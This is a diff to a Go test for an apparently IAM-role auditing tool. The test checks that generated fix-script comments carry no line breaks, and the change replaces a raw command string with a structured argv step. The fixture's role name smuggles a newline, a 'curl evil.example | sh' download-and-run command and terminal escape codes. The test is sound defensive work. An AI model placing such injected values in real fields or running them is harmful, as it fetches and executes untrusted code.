@@ -89,8 +89,9 @@ func TestFixScriptCommentsCarryNoLineBreak(t *testing.T) {
 	res := &finding.Result{Findings: []finding.Finding{{
 		CheckID: "IRSA205", Slug: "trust-subject-mismatch", Status: finding.StatusFail,
 		Subject: finding.Subject{Kind: "IAMRole", Name: "r\ncurl evil.example | sh\r\x1b[2J"},
-		Fix:     &finding.Fix{Commands: []string{"aws iam get-role --role-name r"}},
+		Fix:     &finding.Fix{},
 	}}}
+	res.Findings[0].Fix.AddStep(finding.Step{Argv: []string{"aws", "iam", "get-role", "--role-name", "r"}})
 	if _, err := writeFixDir(dir, res); err != nil {
 		t.Fatal(err)
 	}
